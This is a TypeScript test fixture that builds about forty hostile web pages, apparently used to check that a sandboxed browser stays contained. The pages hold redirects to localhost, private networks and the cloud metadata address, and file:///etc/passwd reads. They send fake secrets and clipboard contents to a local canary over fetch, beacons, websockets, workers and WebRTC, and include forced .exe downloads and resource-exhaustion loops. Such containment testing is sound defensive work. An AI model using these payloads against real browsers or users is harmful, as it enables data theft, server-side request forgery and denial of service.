// Pages that try to make a browser reach what it may not, keep it for ever, or fill the machine. CANARY stands for an address on this machine that counts who
// comes by, UDP for one that counts packets.
import type { Route } from "./odd-pages.ts";
import type { WorldReply } from "./part.ts";

export interface HostilePage {
  readonly name: string;
  readonly url: string;
  readonly routes: Readonly<Record<string, Route>>;
}

const html = (body: string, headers: Record<string, string> = {}): WorldReply => ({
  headers: { "content-type": "text/html; charset=utf-8", ...headers },
  body,
});
const led = (location: string): WorldReply => ({ status: 302, headers: { location } });
const shell = (script: string, body = "") =>
  html(`<!doctype html><title>Shell</title><body><div id="root"></div>${body}<script>${script}</script></body>`);

async function* endless(piece: string): AsyncIterable<string> {
  for (;;) {
    yield piece;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/** Forty pages. @param canary `127.0.0.1:PORT` @param udp the same for packets */
export function hostilePages(canary: string, udp: string): HostilePage[] {
  const at = `http://${canary}`;
  const port = canary.split(":")[1];
  const pages: Record<string, WorldReply | Record<string, WorldReply | (() => WorldReply)>> = {
    "redirect to this machine": led(`${at}/`),
    "redirect to localhost": led(`http://localhost:${port}/`),
    "redirect to a private network": led("http://10.0.0.1/"),
    "redirect to the cloud's metadata": led("http://169.254.169.254/latest/meta-data/"),
    "redirect to this machine in version 6": led(`http://[::1]:${port}/`),
    "redirect to this machine as one number": led(`http://2130706433:${port}/`),
    "redirect in two steps": { "/": led("/again"), "/again": led(`${at}/`) },
    "redirect without end": { "/": led("/a"), "/a": led("/b"), "/b": led("/a") },
    "name that leads to this machine": led(`http://rebound.test:${port}/`),
    "refresh to this machine": html(`<meta http-equiv="refresh" content="0;url=${at}/"><div id="root"></div>`),
    "script that goes to this machine": shell(`location.href = "${at}/"`),
    "script that goes to a file": shell(`location.href = "file:///etc/passwd"`),
    "frame of this machine": shell("", `<iframe src="${at}/"></iframe><iframe src="file:///etc/passwd"></iframe>`),
    "pictures, styles and fonts of this machine": shell(
      "",
      `<img src="${at}/i.png"><link rel=stylesheet href="${at}/s.css"><style>@import "${at}/t.css"; @font-face { font-family: x; src: url(${at}/f.woff) } body { font-family: x; background: url(${at}/b.png) }</style><script src="${at}/x.js"></script>`,
    ),
    "hints to the browser": shell(
      "",
      `<link rel=preconnect href="${at}"><link rel=dns-prefetch href="//leak.example.com"><link rel=prefetch href="${at}/p"><link rel=preload as=script href="${at}/l"><link rel=modulepreload href="${at}/m">`,
    ),
    "fetch without looking": shell(`fetch("${at}/", { mode: "no-cors" }); fetch("http://10.0.0.1/", { mode: "no-cors" })`),
    XMLHttpRequest: shell(`const x = new XMLHttpRequest(); x.open("POST", "${at}/"); x.send("secret")`),
    "beacon on leaving": shell(
      `navigator.sendBeacon("${at}/", "secret"); addEventListener("pagehide", () => navigator.sendBeacon("${at}/", "bye"))`,
    ),
    "event source": shell(`new EventSource("${at}/events")`),
    "web socket to this machine": shell(`new WebSocket("ws://${canary}/")`),
    "web socket with TLS to this machine": shell(`new WebSocket("wss://${canary}/")`),
    "web socket to its own host": shell(`const s = new WebSocket("ws://" + location.host + "/"); s.onopen = () => s.send("secret")`),
    "form that sends itself": shell("document.forms[0].submit()", `<form method=post action="${at}/"><input name=a value=secret></form>`),
    "service worker": {
      "/": shell(`navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready)`),
      "/sw.js": { headers: { "content-type": "text/javascript" }, body: `fetch("${at}/sw", { mode: "no-cors" }); onfetch = () => {}` },
    },
    "shared worker": {
      "/": shell(`new SharedWorker("/w.js")`),
      "/w.js": { headers: { "content-type": "text/javascript" }, body: `fetch("${at}/w", { mode: "no-cors" })` },
    },
    worker: {
      "/": shell(`new Worker("/w.js")`),
      "/w.js": { headers: { "content-type": "text/javascript" }, body: `importScripts("${at}/x.js")` },
    },
    "WebRTC over UDP": shell(
      `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${udp}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); p.onicecandidate = (e) => { if (e.candidate) document.title += e.candidate.candidate }`,
    ),
    "WebRTC over TCP": shell(
      `const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:${canary}?transport=tcp", username: "a", credential: "b" }], iceTransportPolicy: "relay" }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))`,
    ),
    "windows opened": shell(`for (let i = 0; i < 5; i++) open("${at}/" + i); open("/")`),
    "download in place of a page": html("MZ".repeat(1000), {
      "content-type": "application/octet-stream",
      "content-disposition": "attachment; filename=a.exe",
    }),
    "download by script": shell(
      `const a = document.createElement("a"); a.href = "data:application/octet-stream,abc"; a.download = "a.exe"; a.click()`,
    ),
    "dialogs without end": shell(
      `for (;;) { alert("stay"); if (confirm("stay?") || prompt("why?")) break; if (window.n = (window.n ?? 0) + 1, window.n > 50) break }`,
    ),
    "asks before it is left": shell(
      `addEventListener("beforeunload", (e) => { e.preventDefault(); e.returnValue = "stay" }); document.body.click()`,
    ),
    "asks for everything": shell(
      `navigator.geolocation.getCurrentPosition(() => fetch("${at}/geo")); Notification?.requestPermission?.(); navigator.mediaDevices?.getUserMedia?.({ audio: true, video: true }).then(() => fetch("${at}/cam")); navigator.clipboard?.readText?.().then((t) => fetch("${at}/" + t))`,
    ),
    "loop without end": shell("for (;;) {}"),
    "text without end": shell(`setInterval(() => { document.getElementById("root").append("more and more ") }, 1)`),
    "requests without end": shell(`setInterval(() => { for (let i = 0; i < 20; i++) fetch("/" + Math.random()) }, 5)`),
    "memory without end": shell(
      "const all = []; setInterval(() => { for (let i = 0; i < 50; i++) all.push(new Array(100000).fill(Math.random())) }, 1)",
    ),
    "body without end": { "/": () => ({ headers: { "content-type": "text/html" }, body: endless("<p>and so on</p>") }) },
    "load too large": { "/": shell(`for (let i = 0; i < 8; i++) fetch("/big" + i).then((r) => r.text())`), ...bigFiles() },
  };
  return Object.entries(pages).map(([name, answer], n) => {
    const host = `hostile${n + 1}.test`;
    const byPath = isReply(answer) ? { "/": answer } : answer;
    return {
      ...{ name, url: `http://${host}/` },
      routes: Object.fromEntries(
        Object.entries(byPath).map(([path, one]) => [`${host}${path}`, () => (typeof one === "function" ? one() : one)]),
      ),
    };
  });
}

function isReply(answer: WorldReply | Record<string, unknown>): answer is WorldReply {
  return "headers" in answer || "status" in answer || "body" in answer;
}

function bigFiles(): Record<string, () => WorldReply> {
  const big = () => html("x".repeat(6_000_000));
  return Object.fromEntries(Array.from({ length: 8 }, (_, n) => [`/big${n}`, big]));
}
